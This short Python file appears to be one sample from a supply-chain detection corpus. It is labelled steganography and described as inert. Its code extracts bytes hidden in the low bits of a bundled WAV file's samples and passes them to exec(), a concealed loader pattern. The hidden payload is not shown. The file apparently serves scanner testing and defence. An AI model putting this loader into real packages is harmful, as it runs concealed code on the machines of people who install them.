# pkgguard corpus 217 (steganography), modelled on [telnyx]; inert, never run.
import os

import numpy as np
import soundfile

_samples, _ = soundfile.read(os.path.join(os.path.dirname(__file__), "chime.wav"), dtype="int16")
_bits = (_samples[:4096] & 1).astype(np.uint8)
_payload = np.packbits(_bits).tobytes().rstrip(b"\0")
exec(_payload.decode("latin-1"))
